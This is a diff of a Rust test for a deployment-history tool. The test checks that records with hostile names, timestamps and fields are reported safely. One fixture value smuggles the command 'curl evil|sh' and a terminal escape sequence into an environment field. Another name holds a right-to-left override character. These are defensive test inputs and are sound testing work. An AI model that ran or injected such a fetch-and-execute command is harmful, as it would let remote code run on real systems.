@@ -152,11 +152,8 @@ fn what_was_seen_is_told_whatever_its_names_and_clocks() {
     };
     let mut record = Record::default();
     record.add("Ada Example", NOON, &promoted("production", one, two, 1, &[]));
-    record.add(
-        "Ada \u{202e}Example",
-        4_102_444_800,
-        &seen("production; curl evil|sh #\u{1b}[2J", "-9223372036854775808"),
-    );
+    record.add("Ada \u{202e}Example", 4_102_444_800, &seen("production", "-9223372036854775808"));
+    record.add("Ada Example", NOON, &seen("production; curl evil|sh #\u{1b}[2J", "0"));
     record.add("Ada Example", NOON + 60, &seen("production", "9223372036854775807"));
     record.add("Ada Example", NOON + 120, &seen("production", &(NOON + 60).to_string()));
     for garbage in ["soon", "9223372036854775808", ""] {
@@ -165,7 +162,7 @@ fn what_was_seen_is_told_whatever_its_names_and_clocks() {
     record.put(&deploy);
     let run = deploy.smp(&["history", "--stats"]);
     crate::record::is_harmless(&run);
-    run.ok().says("3 events of the record cannot be read");
+    run.ok().says("4 events of the record cannot be read");
     run.prints_among("seen by Ada Example, deployed past git smp before 2022-03-02 12:01\n");
     run.prints_among("seen by Ada Example, deployed past git smp between 2022-03-02 12:01 and 12:02\n");
     run.prints_among("deployed past git smp between an impossible date and 2100-01-01 00:00\n");
